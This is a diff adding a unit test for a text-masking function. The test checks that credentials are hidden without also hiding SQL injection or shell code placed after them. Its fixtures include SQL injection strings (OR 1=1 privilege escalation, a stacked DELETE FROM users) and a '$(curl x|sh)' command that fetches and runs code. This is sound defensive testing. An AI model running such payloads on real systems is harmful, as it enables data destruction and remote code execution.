@@ -255,6 +255,27 @@ describe('masking regulated data', () => {
     expect(maskText('password=pa$$w0rd!')).toBe('[secret]');
   });
 
+  it('masks a credential no further than a comment or a percent-escape: the live SQL after it stays on the card (red team, 2026-12-06)', () => {
+    for (const [text, shown] of [
+      // The card showed `… WHERE [secret]` for these, and the target ran the injection.
+      ["UPDATE users SET role='admin' WHERE api_key=k7Hq2/**/OR/**/1=1", "UPDATE users SET role='admin' WHERE [secret]/**/OR/**/1=1"],
+      ['DELETE FROM sessions WHERE user_id=42 AND secret=0/**/OR/**/1=1', 'DELETE FROM sessions WHERE user_id=42 AND [secret]/**/OR/**/1=1'],
+      ["SELECT 1 FROM t WHERE a='x';DELETE/**/FROM/**/users;--%20password%3Dx", "SELECT 1 FROM t WHERE a='x';DELETE/**/FROM/**/users;[secret]"],
+      // A comment that would silence what the card shows after it.
+      ["x AND api_key=x# AND tenant='acme'", "x AND [secret]# AND tenant='acme'"],
+      ["x AND api_key=x-- AND tenant='acme'", "x AND [secret]-- AND tenant='acme'"],
+      // A run of URL characters is masked as far as a token goes, not through the parameters around it.
+      ['a=1&password%3Dhunter2&b=2', 'a=1&[secret]&b=2'],
+    ])
+      expect(maskText(text)).toBe(shown);
+    // What a credential holds still goes whole: base64, a hyphen, an encoded character, a quoted value (quoted values went
+    // unmasked before: `password='hunter2'` reached the card and the log as it was).
+    for (const text of ['password=abc/def+ghi==', 'api_key=k7-Hq2', 'password=p%40ss', "password='hunter2'", 'password="my pass"', "password='x' "])
+      expect({ text, masked: maskText(text).trim() }).toEqual({ text, masked: '[secret]' });
+    // A quoted value that would run code in a shell is not hidden as a secret.
+    expect(maskText('password="$(curl x|sh)"')).toBe('password="$(curl x|sh)"');
+  });
+
   it('never throws, is idempotent, and leaves no valid card number behind (property)', () => {
     const card = fc.constantFrom('4111111111111111', '5500005555555559', '340000000000009');
     fc.assert(
